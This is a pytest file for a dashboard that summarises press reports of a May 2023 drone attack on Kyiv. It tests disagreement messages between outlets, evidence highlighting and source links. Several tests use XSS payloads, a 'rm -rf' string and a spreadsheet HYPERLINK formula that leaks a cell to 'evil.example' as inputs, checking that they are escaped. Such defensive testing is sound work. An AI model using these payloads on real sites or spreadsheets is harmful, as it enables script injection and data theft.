"""The event panel's text: where sources truly disagree, evidence by sentence with its matches marked,
each report's link and date, all of it inert."""

from __future__ import annotations

import datetime as dt
import html
import re

import pytest
from conftest import make_article

from strikemap.cluster import cluster, make_event
from strikemap.dashboard.panels import (
    WORD_JOINER,
    EvidenceLine,
    date_label,
    disagreements,
    evidence_lines,
    highlight,
    inert,
    mark,
    report_fields,
    source_line,
)
from strikemap.extract import extract
from strikemap.models import Event, Evidence, Precision, Report

DAY = dt.date(2023, 5, 16)


def report(source: str | None, number: int = 0, **fields: object) -> Report:
    """A primary report of the 16 May attack on Kyiv, as one outlet gave it."""
    base: dict[str, object] = {
        "article": f"{source or 'anon'}.txt",
        "article_id": f"article-{source}-{number}",
        "key": f"{source}:{number}",
        "role": "primary",
        "city": "Kyiv",
        "date": DAY,
        "date_precision": "day",
        "source": source,
    }
    return Report(**(base | fields))  # type: ignore[arg-type]


def events_of(*articles: tuple[str, str]) -> list[Event]:
    """Events the pipeline finds in articles given as (outlet, text), all published 16 May."""
    found = [
        r
        for number, (outlet, text) in enumerate(articles)
        for r in extract(make_article(text, "2023-05-16", path=f"{number}.txt", source=outlet))
    ]
    return cluster(found)


# --- disagreements -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "reports, expected",
    [
        (
            [report("Kyiv Wire", killed=2), report("Podil Post", killed=3)],
            ["Sources differ on the number killed: Kyiv Wire says 2; Podil Post says 3."],
        ),
        (
            [
                report("Kyiv Wire", injured=5),
                report("Podil Post", injured=7),
                report("Left Bank News", injured=5),
            ],
            [
                "Sources differ on the number injured: "
                "Kyiv Wire says 5; Left Bank News says 5; Podil Post says 7."
            ],
        ),
        (
            [
                report("Kyiv Wire", districts=("Podilskyi",)),
                report("Podil Post", districts=("Solomianskyi",)),
            ],
            ["Sources differ on the districts: Kyiv Wire says Podilskyi; Podil Post says Solomianskyi."],
        ),
        (
            [
                report("Kyiv Wire", weapons=("drone",)),
                report("Podil Post", weapons=("missile", "bomb")),
            ],
            ["Sources differ on the weapons: Kyiv Wire says drone; Podil Post says bomb, missile."],
        ),
        (
            [report("Kyiv Wire"), report("Podil Post", date=dt.date(2023, 5, 17))],
            ["Sources differ on the date: Kyiv Wire says 16 May 2023; Podil Post says 17 May 2023."],
        ),
        (
            [
                report("Kyiv Wire", killed=1, injured=2, weapons=("drone",)),
                report("Podil Post", killed=4, injured=2, weapons=("missile",)),
            ],
            [
                "Sources differ on the number killed: Kyiv Wire says 1; Podil Post says 4.",
                "Sources differ on the weapons: Kyiv Wire says drone; Podil Post says missile.",
            ],
        ),
        (
            [report(None, title="Night of drones", killed=1), report(None, 2, killed=2)],
            [
                "Sources differ on the number killed: "
                "unknown (Night of drones) says 1; unknown (anon.txt) says 2."
            ],
        ),
    ],
    ids=["killed", "injured", "districts", "weapons", "date", "two-fields", "no-outlet"],
)
def test_disagreements_name_the_outlets(reports: list[Report], expected: list[str]) -> None:
    assert disagreements(make_event(reports)) == expected


@pytest.mark.parametrize(
    "reports",
    [
        [report("Kyiv Wire")],
        [report("Kyiv Wire", killed=2), report("Podil Post", killed=2)],
        [report("Kyiv Wire", killed=2), report("Podil Post")],
        [report("Kyiv Wire", districts=("Podilskyi",)), report("Podil Post")],
        [
            report("Kyiv Wire", weapons=("drone",), injured=3),
            report("Podil Post", weapons=("drone",), injured=3),
        ],
        [report("Kyiv Wire", killed=2), report("Podil Post", killed=9, role="background")],
        [report("Kyiv Wire"), report("Podil Post", date=None, date_precision=None)],
    ],
    ids=["one-report", "same-number", "one-silent", "one-names-none", "all-agree", "background", "undated"],
)
def test_no_disagreement_when_sources_agree(reports: list[Report]) -> None:
    assert disagreements(make_event(reports)) == []


def test_disagreements_of_extracted_reports() -> None:
    (event,) = events_of(
        (
            "Kyiv Wire",
            "Russian drones struck Kyiv's Solomianskyi district overnight. Two people were killed.",
        ),
        (
            "Podil Post",
            "Russian drones struck Kyiv's Solomianskyi district overnight. Three people were killed.",
        ),
    )
    assert disagreements(event) == [
        "Sources differ on the number killed: Kyiv Wire says 2; Podil Post says 3."
    ]


def test_districts_named_in_another_order_are_no_disagreement() -> None:
    """Regression: districts were compared in mention order, so the same two read as a dispute."""
    (event,) = events_of(
        (
            "Kyiv Wire",
            "Russian drones hit Kyiv's Podilskyi and Solomianskyi districts overnight, officials said.",
        ),
        (
            "Podil Post",
            "Russian drones hit Kyiv's Solomianskyi and Podilskyi districts overnight, officials said.",
        ),
    )
    assert disagreements(event) == []


# --- inert and highlight -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, expected",
    [
        ("Drones hit Podil", "Drones hit Podil"),
        ("Київ", "Київ"),
        ("<b>", "&lt;b&gt;"),
        ("A & B", "A &amp; B"),
        ('"quoted"', "&quot;quoted&quot;"),
        ("`code`", "&#96;code&#96;"),
        ("*bold* _it_", "&#42;bold&#42; &#95;it&#95;"),
        ("[x](javascript:alert(1))", "&#91;x&#93;&#40;javascript&#58;alert&#40;1&#41;&#41;"),
        ("# Title", "&#35; Title"),
        ("$x$ \\", "&#36;x&#36; &#92;"),
        ("1. item", "1&#46; item"),
        (42, "42"),
    ],
)
def test_inert(text: object, expected: str) -> None:
    assert inert(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Kyiv's Podilskyi district",
        "He said: 'it hit'",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "`${alert(1)}`",
        'A & B "quoted" #1 - 2.5 | ~ ! + {}',
    ],
)
def test_inert_text_reads_back_as_written(text: str) -> None:
    """Regression: the apostrophe's entity had its '#' escaped again, so "Kyiv's" showed as Kyiv&#x27;s."""
    assert html.unescape(inert(text)) == text


AUTOLINKED = re.compile(r"(?i)[a-z][a-z0-9+.-]*://|\bwww\.|[\w.+-]@[\w-]")
"""What GitHub-flavoured Markdown makes a link of by itself, in text as it reads after entities."""


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click") Drones hit Kyiv',
        "Read more at HTTPS://news.example/kyiv",
        "Photos: www.evil.example/podil and WWW.Evil.example",
        "Write to tips@evil.example or mailto:a@b.example",
        "ftp://files.example/x",
    ],
)
def test_inert_text_holds_no_address_markdown_would_link(text: str) -> None:
    """Regression: an address in an article's title became a live link in the event panel."""
    read = html.unescape(inert(text))
    assert AUTOLINKED.search(read) is None
    assert read.replace(WORD_JOINER, "") == text


@pytest.mark.parametrize(
    "sentence, match, expected",
    [
        ("Drones hit Podil", "hit", "Drones <mark>hit</mark> Podil"),
        ("Drones hit Podil", "Drones", "<mark>Drones</mark> hit Podil"),
        ("Drones hit Podil", "Podil", "Drones hit <mark>Podil</mark>"),
        ("Drones hit Podil", "", "Drones hit Podil"),
        ("Drones hit Podil", "missile", "Drones hit Podil"),
        ("Drones hit Podil", "hit Podil", "Drones <mark>hit Podil</mark>"),
        ("Two killed. Two hurt.", "Two", "<mark>Two</mark> killed&#46; Two hurt&#46;"),
        (
            "Drones hit [x](javascript:alert(1)) today",
            "hit",
            "Drones <mark>hit</mark> &#91;x&#93;&#40;javascript&#58;alert&#40;1&#41;&#41; today",
        ),
        (
            "<img src=x onerror=alert(1)> hit Podil",
            "Podil",
            "&lt;img src=x onerror=alert&#40;1&#41;&gt; hit <mark>Podil</mark>",
        ),
        (
            "`${alert(1)}` hit Podil",
            "hit",
            "&#96;&#36;&#123;alert&#40;1&#41;&#125;&#96; <mark>hit</mark> Podil",
        ),
        ("A <b>drone</b> hit", "<b>drone</b>", "A <mark>&lt;b&gt;drone&lt;/b&gt;</mark> hit"),
        (  # an address in the text is kept from being linked (see test_inert_text_holds_no_address...)
            "Hit [here](http://x)",
            "[here](http://x)",
            "Hit <mark>&#91;here&#93;&#40;http&#58;\u2060//x&#41;</mark>",
        ),
    ],
)
def test_highlight_marks_the_match_and_escapes_the_rest(sentence: str, match: str, expected: str) -> None:
    assert highlight(sentence, match) == expected


@pytest.mark.parametrize(
    "sentence, match",
    [
        ("Drones hit [x](javascript:alert(1))", "Drones"),
        ("<img src=x onerror=alert(1)> hit", "hit"),
        ("`rm -rf` hit", "hit"),
        ("<script>alert(1)</script>", "<script>"),
    ],
)
def test_highlight_has_no_markup_but_its_own(sentence: str, match: str) -> None:
    out = highlight(sentence, match).replace("<mark>", "").replace("</mark>", "")
    assert [c for c in "<>`[]()" if c in out] == []


# --- report_fields -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "fields, expected",
    [
        (
            {"date": None, "date_precision": None},
            {
                "date": "not stated",
                "districts": "none named",
                "weapons": "not stated",
                "killed": "not stated",
                "injured": "not stated",
                "damage": "not stated",
            },
        ),
        (
            {
                "date": dt.date(2023, 5, 1),
                "date_precision": "month",
                "districts": ("Podilskyi", "Solomianskyi"),
                "weapons": ("drone", "missile"),
                "killed": 2,
                "injured": 0,
                "damage": ("residential building", "cars"),
            },
            {
                "date": "May 2023",
                "districts": "Podilskyi, Solomianskyi",
                "weapons": "drone, missile",
                "killed": "2",
                "injured": "0",
                "damage": "residential building, cars",
            },
        ),
        (
            {"casualty_words": ("several dead", "dozens hurt")},
            {
                "date": "16 May 2023",
                "districts": "none named",
                "weapons": "not stated",
                "killed": "not stated (several dead; dozens hurt)",
                "injured": "not stated",
                "damage": "not stated",
            },
        ),
        (
            {"date": dt.date(2023, 1, 1), "date_precision": "year", "killed": 1, "casualty_words": ("many",)},
            {
                "date": "2023",
                "districts": "none named",
                "weapons": "not stated",
                "killed": "1 (many)",
                "injured": "not stated",
                "damage": "not stated",
            },
        ),
    ],
)
def test_report_fields(fields: dict[str, object], expected: dict[str, str]) -> None:
    assert report_fields(report("Kyiv Wire", **fields)) == expected


# --- only true disagreements ------------------------------------------------------------------------

MAY_MONTH = {"date": dt.date(2023, 5, 1), "date_precision": "month"}


@pytest.mark.parametrize(
    "reports",
    [
        [report("Kyiv Wire", date=dt.date(2023, 5, 29)), report("Podil Post", **MAY_MONTH)],
        [report("Kyiv Wire", **MAY_MONTH), report("Podil Post", date=dt.date(2023, 5, 31))],
        [report("Kyiv Wire", date=dt.date(2023, 1, 1), date_precision="year"), report("Podil Post")],
        [
            report("Kyiv Wire", date=dt.date(2023, 1, 1), date_precision="year"),
            report("Podil Post", **MAY_MONTH),
            report("Left Bank News"),
        ],
        [
            report("Kyiv Wire", districts=("Podilskyi",)),
            report("Podil Post", districts=("Podilskyi", "Obolonskyi")),
        ],
        [report("Kyiv Wire", weapons=("drone",)), report("Podil Post", weapons=("drone", "missile"))],
        [report("Kyiv Wire", weapons=("drone", "missile")), report("Podil Post", weapons=("missile",))],
    ],
    ids=[
        "day-in-month",
        "month-holds-day",
        "year-holds-day",
        "year-month-day",
        "fewer-districts",
        "fewer-weapons",
        "fewer-weapons-second",
    ],
)
def test_a_less_specific_report_is_no_disagreement(reports: list[Report]) -> None:
    assert disagreements(make_event(reports)) == []


@pytest.mark.parametrize(
    "reports, expected",
    [
        (
            [report("Kyiv Wire", **MAY_MONTH), report("Podil Post", date=dt.date(2023, 6, 1))],
            "Sources differ on the date: Kyiv Wire says May 2023; Podil Post says 1 June 2023.",
        ),
        (
            [report("Kyiv Wire", date=dt.date(2022, 1, 1), date_precision="year"), report("Podil Post")],
            "Sources differ on the date: Kyiv Wire says 2022; Podil Post says 16 May 2023.",
        ),
        (
            [
                report("Kyiv Wire", districts=("Obolonskyi", "Podilskyi")),
                report("Podil Post", districts=("Podilskyi", "Solomianskyi")),
            ],
            "Sources differ on the districts: Kyiv Wire says Obolonskyi, Podilskyi; "
            "Podil Post says Podilskyi, Solomianskyi.",
        ),
        (
            [
                report("Kyiv Wire", weapons=("drone",)),
                report("Podil Post"),
                report("Left Bank News", weapons=("missile",)),
            ],
            "Sources differ on the weapons: Kyiv Wire says drone; Left Bank News says missile.",
        ),
    ],
    ids=["month-and-another-month", "other-year", "districts-not-nested", "silent-one-left-out"],
)
def test_reports_that_truly_disagree(reports: list[Report], expected: str) -> None:
    assert disagreements(make_event(reports)) == [expected]


@pytest.mark.parametrize(
    "day, precision, expected",
    [
        (dt.date(2023, 5, 29), "day", "29 May 2023"),
        (dt.date(2023, 5, 1), "month", "May 2023"),
        (dt.date(2023, 1, 1), "year", "2023"),
        (None, None, "undated"),
        (dt.date(2023, 5, 1), None, "undated"),
    ],
)
def test_date_label(day: dt.date | None, precision: Precision | None, expected: str) -> None:
    assert date_label(day, precision) == expected


# --- evidence by sentence -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sentence, matches, expected",
    [
        (
            "Drones hit Podil at night",
            ["Drones", "night"],
            "<mark>Drones</mark> hit Podil at <mark>night</mark>",
        ),
        ("Drones hit Podil", ["hit Podil", "Podil"], "Drones <mark>hit Podil</mark>"),
        ("Drones hit Podil", ["Drones hit", "hit Podil"], "<mark>Drones hit Podil</mark>"),
        ("Drones hit Podil", ["Drones", "Drones"], "<mark>Drones</mark> hit Podil"),
        ("Drones hit Podil", ["missile", ""], "Drones hit Podil"),
        ("<b>Drones</b> hit", ["hit", "<b>"], "<mark>&lt;b&gt;</mark>Drones&lt;/b&gt; <mark>hit</mark>"),
    ],
    ids=["two", "nested", "overlapping", "repeated", "absent", "escaped"],
)
def test_mark_marks_every_match(sentence: str, matches: list[str], expected: str) -> None:
    assert mark(sentence, matches) == expected


def test_evidence_is_grouped_by_sentence_with_plain_tags() -> None:
    first = "Drones hit Podil at night, Klitschko said."
    second = "Two people were killed."
    r = report(
        "Kyiv Wire",
        evidence=(
            Evidence("weapons", first, "Drones"),
            Evidence("time_of_day", first, "at night"),
            Evidence("killed", second, "Two people were killed"),
            Evidence("said_by", first, "Klitschko"),
            Evidence("districts", first, "Podil"),
            Evidence("weapon_models", second, "Two"),
        ),
    )
    assert evidence_lines(r) == [
        EvidenceLine(
            "<mark>Drones</mark> hit <mark>Podil</mark> <mark>at night</mark>, "
            "<mark>Klitschko</mark> said&#46;",
            ("weapon", "time of day", "quoted", "district"),
        ),
        EvidenceLine("<mark>Two people were killed</mark>&#46;", ("killed", "weapon model")),
    ]


def test_evidence_of_an_extracted_report_shows_each_sentence_once_in_plain_words() -> None:
    (event,) = events_of(
        (
            "Kyiv Wire",
            "Russian drones struck Kyiv's Podilskyi district overnight, killing two people, "
            "Vitali Klitschko said. Debris fell on a house.",
        )
    )
    (r,) = event.reports
    lines = evidence_lines(r)
    sentences = {e.sentence for e in r.evidence}
    assert len(lines) == len(sentences) >= 1
    tags = {t for line in lines for t in line.tags}
    assert {"weapon", "district", "killed", "quoted"} <= tags
    assert [t for t in tags if "_" in t] == []


@pytest.mark.parametrize(
    "fields, expected",
    [
        (
            {"title": "Drones over <Podil>", "url": "https://kyiv.example/a?b=1&c=2", "published": DAY},
            '<a href="https&#58;//kyiv&#46;example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">'
            "Drones over &lt;Podil&gt;</a> · published 16 May 2023",
        ),
        (
            {"title": "Drones", "url": "javascript:alert(1)", "published": DAY},
            "Drones · published 16 May 2023",
        ),
        (
            {
                "title": None,
                "article": "/srv/strikemap/uploads/night.txt",
                "url": None,
                "said_by": ("Klitschko",),
            },
            "night&#46;txt · published unknown · quoted: Klitschko",
        ),
        (
            {"title": "Drones", "url": "HTTP://Kyiv.example/x"},
            '<a href="HTTP&#58;//Kyiv&#46;example/x" target="_blank" rel="noopener noreferrer">Drones</a>'
            " · published unknown",
        ),
    ],
    ids=["web-link", "javascript-is-no-link", "no-link-file-name", "upper-case-scheme"],
)
def test_source_line_links_only_web_addresses(fields: dict[str, object], expected: str) -> None:
    assert source_line(report("Kyiv Wire", **fields)) == expected
